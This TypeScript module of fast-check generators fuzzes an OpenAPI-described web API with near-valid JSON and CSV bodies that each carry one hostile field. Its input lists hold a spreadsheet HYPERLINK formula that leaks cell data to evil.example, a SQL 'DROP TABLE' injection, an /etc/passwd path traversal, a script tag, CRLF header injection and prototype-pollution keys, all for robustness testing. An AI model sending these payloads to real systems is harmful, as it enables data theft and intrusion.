import fc from 'fast-check';
import { OpenApiDocument, resolveSchema, Schema } from './openapi';

/** Text that Postgres, an export or a line-based format cannot take as it is. */
export const STORAGE_BREAKERS = [
  'a\u0000b',
  'x\ud83dy',
  '\udc00',
  'x'.repeat(100_000),
  'x\r\nATTENDEE:mailto:evil@example.org\r\nX-INJECTED:1',
  '\u0007\u001b[31m',
];

/** Other text that has broken servers: empty, bidi, combining marks, formulas, paths… */
export const ODD_STRINGS = [
  '',
  ' ',
  '\u202eevil\u202c',
  'e\u0301\u0301\u0301\u0301',
  'ﷺ𒐫𒈙',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  '@SUM(1+1)',
  "'; DROP TABLE users; --",
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  'NaN',
  '1e20',
  '-1',
  '9223372036854775808',
  'true',
  'null',
  '{}',
];

export const EDGE_NUMBERS = [
  0,
  -0,
  -1,
  1.5,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  Number.MAX_SAFE_INTEGER + 2,
  1e20,
  -1e20,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...STORAGE_BREAKERS) },
  { weight: 2, arbitrary: fc.constantFrom(...ODD_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
);

/** A value of any wrong shape: nulls, other types, edge numbers, hostile text. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  hostileString,
  fc.constantFrom(...EDGE_NUMBERS),
  fc.boolean(),
  fc.constant({}),
  fc.constant([]),
  fc.array(hostileString, { maxLength: 3 }),
  fc.constantFrom('5', 'true', '2027-02-30', '25:99'),
);

/** Values that pass a schema's declared shape, so that requests reach the rules behind it. */
function plausibleValue(
  document: OpenApiDocument,
  input: Schema,
  ids: IdSource,
  depth: number,
): fc.Arbitrary<unknown> {
  const schema = resolveSchema(document, input);
  if (schema.enum?.length) return fc.constantFrom(...schema.enum);
  const variants = schema.oneOf ?? schema.anyOf;
  if (variants?.length) {
    return fc.oneof(...variants.map((v) => plausibleValue(document, v, ids, depth)));
  }
  switch (schema.type) {
    case 'integer':
    case 'number':
      return fc.integer({
        min: Math.max(schema.minimum ?? -5, -1000),
        max: Math.min(schema.maximum ?? 1000, 1000),
      });
    case 'boolean':
      return fc.boolean();
    case 'array':
      return depth > 3
        ? fc.constant([])
        : fc.array(plausibleValue(document, schema.items ?? {}, ids, depth + 1), {
            maxLength: 3,
          });
    case 'object':
      return depth > 3 ? fc.constant({}) : objectOf(document, schema, ids, depth + 1);
    default:
      return plausibleString(schema, ids);
  }
}

function plausibleString(schema: Schema, ids: IdSource): fc.Arbitrary<unknown> {
  switch (schema.format) {
    case 'uuid':
      return fc.oneof(
        fc.constant(null).chain(() => fc.constantFrom(...ids.all())),
        fc.uuid(),
      );
    case 'date':
      return fc.constantFrom('2027-03-01', '2027-12-31', '2027-02-30', '1900-01-01');
    case 'date-time':
      return fc.constantFrom('2027-03-01T09:00:00Z', '2027-03-01T09:00:00+02:00');
    case 'email':
      return fc.emailAddress();
    case 'uri':
      return fc.webUrl();
    default:
      return fc.oneof(
        fc.string({ minLength: schema.minLength ?? 0, maxLength: schema.maxLength ?? 40 }),
        fc.emailAddress(),
        fc.constantFrom('09:00', '12:30', 'Europe/Paris', 'FR', 'fr', 'MIT', 'https://x.example'),
      );
  }
}

/** What the generators need besides the document: ids that exist, by field name or any. */
export interface IdSource {
  /** An existing id for a field such as `courseId`, if one is known. */
  forField(name: string): string | undefined;
  all(): string[];
}

/**
 * A value the API documents as valid for the field: its example, default or first enum
 * value, an existing id for an id. Bodies built of these pass validation, so a single
 * hostile field is what reaches the services and the database.
 */
function exampleValue(
  document: OpenApiDocument,
  name: string,
  input: Schema,
  ids: IdSource,
  depth: number,
): unknown {
  const schema = resolveSchema(document, input);
  if (schema.example !== undefined) return schema.example;
  if (schema.default !== undefined) return schema.default;
  if (schema.enum?.length) return schema.enum[0];
  switch (schema.type) {
    case 'integer':
    case 'number':
      return schema.minimum ?? 1;
    case 'boolean':
      return false;
    case 'array':
      return [];
    case 'object':
      return depth > 3 ? {} : exampleObject(document, schema, ids, depth + 1);
  }
  if (schema.format === 'uuid') return ids.forField(name) ?? ids.all()[0];
  if (schema.format === 'date') return '2027-03-01';
  if (schema.format === 'date-time') return '2027-03-01T09:00:00Z';
  return 'Texte';
}

function exampleObject(
  document: OpenApiDocument,
  schema: Schema,
  ids: IdSource,
  depth: number,
): Record<string, unknown> {
  return Object.fromEntries(
    Object.entries(schema.properties ?? {}).map(([name, property]) => [
      name,
      exampleValue(document, name, property, ids, depth),
    ]),
  );
}

/**
 * A JSON object of the schema's properties: mostly the documented example with one field
 * left out, replaced by a plausible value or by a hostile one; sometimes every field drawn.
 */
function objectOf(
  document: OpenApiDocument,
  input: Schema,
  ids: IdSource,
  depth: number,
): fc.Arbitrary<Record<string, unknown>> {
  const schema = resolveSchema(document, input);
  const properties = Object.entries(schema.properties ?? {});
  const base = () => exampleObject(document, schema, ids, depth);
  const drawn = fc.record(
    Object.fromEntries(
      properties.map(([name, property]) => [
        name,
        fc.oneof(
          { weight: 4, arbitrary: plausibleValue(document, property, ids, depth) },
          { weight: 1, arbitrary: hostileValue },
        ),
      ]),
    ),
    { requiredKeys: [] },
  );
  if (!properties.length) return drawn;
  const mutated = fc
    .tuple(fc.constantFrom(...properties), fc.integer({ min: 0, max: 5 }))
    .chain(([[name, property], choice]) =>
      (choice === 0
        ? plausibleValue(document, property, ids, depth)
        : mutation(resolveSchema(document, property))
      ).map((value) => ({ ...base(), [name]: value })),
    );
  return fc.oneof({ weight: 4, arbitrary: mutated }, { weight: 1, arbitrary: drawn });
}

/** A wrong value for a field; text fields mostly get text, which goes deepest. */
function mutation(schema: Schema): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: schema.type === 'string' ? 4 : 1, arbitrary: hostileString },
    { weight: 2, arbitrary: hostileValue },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

/** Keys that reach a prototype when input is merged into an object. */
export const POLLUTION = [
  '"__proto__":{"polluted":"yes"}',
  '"constructor":{"prototype":{"polluted":"yes"}}',
  '"prototype":{"polluted":"yes"}',
];

/** Nesting far deeper than any body, written as text since building it would be the test. */
export const DEEP_JSON = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;

/** A JSON body as text: mostly near-valid objects, some with pollution keys, some hostile. */
export function jsonBody(
  document: OpenApiDocument,
  schema: Schema,
  ids: IdSource,
): fc.Arbitrary<string> {
  const object = objectOf(document, schema, ids, 0).map((value) => JSON.stringify(value));
  const polluted = fc
    .tuple(object, fc.constantFrom(...POLLUTION))
    .map(([text, key]) => (text === '{}' ? `{${key}}` : `{${key},${text.slice(1)}`));
  return fc.oneof(
    { weight: 8, arbitrary: object },
    { weight: 1, arbitrary: polluted },
    { weight: 1, arbitrary: hostileValue.map((value) => JSON.stringify(value) ?? 'null') },
    { weight: 1, arbitrary: fc.constantFrom(DEEP_JSON, '{"a":', '\u0000', '') },
  );
}

/** A CSV body: a header row then cells of hostile text. */
export const csvBody: fc.Arbitrary<string> = fc
  .array(fc.array(hostileString, { minLength: 1, maxLength: 9 }), { maxLength: 4 })
  .map((rows) =>
    [
      'territory_name,territory_country,territory_level,political_name,political_email,political_position,technical_name,technical_email,technical_position',
      ...rows.map((cells) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')),
    ].join('\r\n'),
  );

/** A query-string or path value: plausible for its schema, or hostile text or numbers. */
export function textValue(
  document: OpenApiDocument,
  schema: Schema,
  ids: IdSource,
): fc.Arbitrary<string> {
  return fc
    .oneof(
      { weight: 3, arbitrary: plausibleValue(document, schema, ids, 4) },
      { weight: 2, arbitrary: hostileString },
      { weight: 1, arbitrary: fc.constantFrom(...EDGE_NUMBERS) },
    )
    .map((value) => (typeof value === 'string' ? value : JSON.stringify(value)));
}

/**
 * Percent-encodes any string, lone surrogates included (as the 3-byte sequence a broken
 * client would send), which `encodeURIComponent` refuses to do.
 */
export function percentEncode(value: string): string {
  let encoded = '';
  for (const char of value) {
    try {
      encoded += encodeURIComponent(char);
    } catch {
      const unit = char.charCodeAt(0);
      encoded += [0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 63), 0x80 | (unit & 63)]
        .map((byte) => `%${byte.toString(16).toUpperCase()}`)
        .join('');
    }
  }
  return encoded;
}
